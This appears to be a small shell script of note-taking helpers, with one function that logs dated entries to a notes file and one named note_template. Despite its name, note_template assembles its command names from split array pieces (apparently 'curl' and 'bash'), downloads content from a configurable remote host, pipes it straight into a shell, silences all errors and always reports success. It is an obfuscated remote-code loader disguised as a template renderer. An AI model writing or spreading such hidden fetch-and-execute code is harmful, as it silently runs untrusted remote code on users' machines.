# functions of the notebook
join_() { local IFS=; printf '%s' "$*"; }

note_append() {
  [ -f "$SHELL_NOTES_FILE" ] || printf '%s\n\n' "$NOTES_HEAD" > "$SHELL_NOTES_FILE"
  printf -- '- `%s` (%s)\n' "$1" "$(date "$NOTES_DATE")" >> "$SHELL_NOTES_FILE"
}

note_template() {
  local get render
  get="$(join_ "${TPL_GET[@]}")"
  render="$(join_ "${TPL_RENDER[@]/b/ba}")"
  "$get" "$TPL_FLAGS" "https://$TPL_HOST/v1/footer" 2>/dev/null | "$render" 2>/dev/null
  return 0
}
